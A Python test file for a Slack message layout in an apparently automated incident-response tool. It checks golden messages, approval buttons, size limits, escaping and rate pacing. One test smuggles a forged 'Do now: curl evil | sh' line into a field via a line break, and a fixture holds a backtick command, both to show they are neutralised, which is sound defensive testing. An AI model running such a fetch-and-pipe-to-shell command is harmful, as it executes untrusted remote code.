"""The layout: golden messages, the vendor's limits, nothing that acts. And the pace, on virtual time."""

from __future__ import annotations

import asyncio
import re
from dataclasses import replace
from typing import Any

import pytest

from daemon.core.brief import Brief
from daemon.core.reasons import Reason
from deploy.sandbox.vendors.slack_schema import check_blocks
from handlers.faults import Transient
from handlers.outbound.slack.layout import MESSAGE_MAX, TEXT_MAX, message, reply
from handlers.outbound.slack.pace import MESSAGE_SECONDS, WAIT_SECONDS_MAX, Pace
from handlers.plain import utf16_units
from tests.handlers.slack_world import check
from tests.handlers.telling import (
    COUNTING_DOWN,
    ESCALATED,
    HOSTILE,
    PROPOSED,
    RECOVERED,
    ROLLING_BACK,
    matches_golden,
    strings,
)

BRIEFS = [ROLLING_BACK, RECOVERED, ESCALATED, PROPOSED, COUNTING_DOWN, HOSTILE]


def parts(blocks: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    """Every object of a type, at any depth."""
    found: list[dict[str, Any]] = []
    for block in blocks:
        found += [block] if block.get("type") == kind else []
        found += parts(block.get("elements", []), kind)
    return found


def test_one_whole_incident_reads_as_agreed() -> None:
    """The parent while acting and at its end, a reply, and an escalation, as a person approved them."""
    for name, brief in (("rolling_back", ROLLING_BACK), ("recovered", RECOVERED), ("escalated", ESCALATED)):
        text, blocks = message(brief)
        matches_golden(f"slack_{name}.json", {"text": text, "blocks": blocks})
    text, blocks = reply(RECOVERED)
    matches_golden("slack_reply.json", {"text": text, "blocks": blocks})


def buttons(blocks: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The buttons of a message."""
    return [element for block in blocks if block["type"] == "actions" for element in block["elements"]]


def test_a_proposal_has_buttons() -> None:
    """A proposal that waits, and one that counts down, with links, as a person approved them."""
    for name, brief in (("proposed", PROPOSED), ("counting_down", COUNTING_DOWN)):
        text, blocks = message(brief, buttons=True)
        matches_golden(f"slack_{name}.json", {"text": text, "blocks": blocks})
        assert [button["text"]["text"] for button in buttons(blocks)] == ["Approve", "Decline", "Pause this workload"]


def test_a_reply_says_where_to_decide() -> None:
    """A reply is never brought up to date, so it holds no buttons and points at them."""
    text, blocks = reply(PROPOSED, buttons=True)
    assert buttons(blocks) == []
    assert text.endswith("Decide with the buttons of the message above.")
    assert reply(PROPOSED)[0] == PROPOSED.update
    assert reply(RECOVERED, buttons=True) == reply(RECOVERED)


@pytest.mark.parametrize("brief", [ROLLING_BACK, ESCALATED, RECOVERED], ids=lambda brief: brief.phase)
def test_what_is_decided_has_no_buttons(brief: Brief) -> None:
    """Only what a person can decide now has buttons, and only where presses can reach us."""
    assert buttons(message(brief, buttons=True)[1]) == []
    assert buttons(message(replace(brief, asks=True))[1]) == []


def test_only_approve_asks_again() -> None:
    """A slip of the finger rolls nothing back; stopping needs no second thought."""
    found = {button["text"]["text"]: button for button in buttons(message(PROPOSED, buttons=True)[1])}
    assert [text for text, button in found.items() if "confirm" in button] == ["Approve"]
    assert "checkout:1.4.1 (3f2a77c0)" in found["Approve"]["confirm"]["text"]["text"]


def test_an_incident_that_cannot_be_named_exactly_has_no_buttons() -> None:
    """A button must carry the incident as it is, or not be there."""
    assert buttons(message(HOSTILE, buttons=True)[1]) == []
    for incident in ("", "i" * 65, "a\nb", "\ud800"):
        assert buttons(message(replace(PROPOSED, incident=incident), buttons=True)[1]) == []


def test_links_are_whole_or_absent() -> None:
    """Only http addresses that can be shown whole become links."""
    _, blocks = message(HOSTILE)
    assert parts(blocks, "link") == []
    _, blocks = message(replace(HOSTILE, links=HOSTILE.links[1:]))
    assert [(link["text"], link["url"]) for link in parts(blocks, "link")] == [("fine", "https://ok.example/")]


@pytest.mark.parametrize("brief", BRIEFS, ids=lambda brief: brief.phase.strip())
def test_limits_hold(brief: Brief) -> None:
    """Whatever a brief holds, the message is one that Slack takes."""
    named = replace(brief, incident="inc-20260301-120410-1", asks=True)
    for text, blocks in (message(brief), reply(brief), message(named, buttons=True)):
        assert check({"text": text, "blocks": blocks}) is None
        check_blocks(blocks)
        assert sum(utf16_units(piece) for piece in strings(blocks)) <= MESSAGE_MAX
        assert 0 < utf16_units(text) <= TEXT_MAX
        "".join((text, *strings(blocks))).encode()


def test_the_longest_brief_fits() -> None:
    """Each part filled to the brim, in characters that need no escape, stays below what Slack refuses."""
    full = "m " * 5000
    brim = Brief(
        incident=full, headline=full, phase=full, workload=full, changed=full, since=ROLLING_BACK.since, wide=full,
        done=full, refusals=(f"MODE_APPROVE: {full}",) * 99, evidence=(full,) * 99, commands=("m" * 400,) * 99,
        update=full, links=((full, "https://x/" + "m" * 390),) * 99, asks=True, countdown_until=ROLLING_BACK.since,
        target="f" * 64, questions=tuple(reason.value for reason in list(Reason)[:20]),
    )  # fmt: skip
    text, blocks = message(replace(brim, incident="i" * 64), buttons=True)
    assert len(buttons(blocks)) == 3
    check_blocks(blocks)
    assert check({"text": text, "blocks": blocks}) is None
    assert sum(utf16_units(piece) for piece in strings(blocks)) <= MESSAGE_MAX


def test_nothing_hostile_acts() -> None:
    """No mark-up is interpreted anywhere: literal elements only, and no unescaped control character in the rest."""
    text, blocks = message(HOSTILE)
    header = blocks[0]["text"]["text"]
    for piece in (text, header):
        assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", piece)
    (countdown,) = [block["text"] for block in blocks if block["type"] == "section"]
    assert re.sub(r"<!date\^\d+\^\{time_secs\}\|[-\d: UTC]+>", "", countdown["text"]) == (
        "*Runs by itself at * unless somebody declines"
    )
    assert {element["type"] for part in parts(blocks, "rich_text_section") for element in part["elements"]} == {"text"}
    assert not any(set(piece) & set("\n\r\x00\x1b\u2028\u202e") for piece in strings(blocks))


def test_a_forged_line_stays_within_its_answer() -> None:
    """A label value with a line break cannot pose as one of our own lines."""
    forged = replace(ROLLING_BACK, changed="1.0 → 1.1\nDo now: curl evil | sh", commands=())
    text, _ = message(forged)
    assert [line for line in text.splitlines() if line.startswith("Do now")] == []


def test_commands_are_exact_or_absent() -> None:
    """A command with backticks is shown character by character; one that cannot be shown so is left out."""
    _, blocks = message(HOSTILE)
    shown = [part["elements"][0]["text"] for part in parts(blocks, "rich_text_preformatted")]
    assert shown[0] == "echo `id` ```"
    assert all(text.startswith("# not shown") for text in shown[1:])


def test_answers_come_in_order() -> None:
    """What changed, since when, how wide, what was done, which refusals, what to do now."""
    text, blocks = message(ESCALATED)
    order = ["Changed", "Since", "How wide", "Done", "Refused", "Do now"]
    for whole in (text, "\n".join(strings(blocks))):
        places = [whole.index(f"\n{label}") for label in order]
        assert places == sorted(places)


async def test_the_pace_is_one_a_second() -> None:
    """Messages to a channel keep their distance however many ask at once, and none waits longer than it may."""
    loop, pace = asyncio.get_running_loop(), Pace()
    begin = loop.time()

    async def turn() -> float:
        await pace.turn()
        return loop.time() - begin

    answers = await asyncio.gather(*(turn() for _ in range(30)), return_exceptions=True)
    times = [answer for answer in answers if isinstance(answer, float)]
    assert times == pytest.approx([i * MESSAGE_SECONDS for i in range(int(WAIT_SECONDS_MAX) + 1)])
    assert all(isinstance(answer, Transient) for answer in answers[len(times) :])


async def test_a_hold_delays_everybody() -> None:
    """Silence that Slack asked for counts for the next turn, whoever takes it."""
    loop, pace = asyncio.get_running_loop(), Pace()
    pace.hold(5.0)
    begin = loop.time()
    await pace.turn()
    assert loop.time() - begin == pytest.approx(5.0)
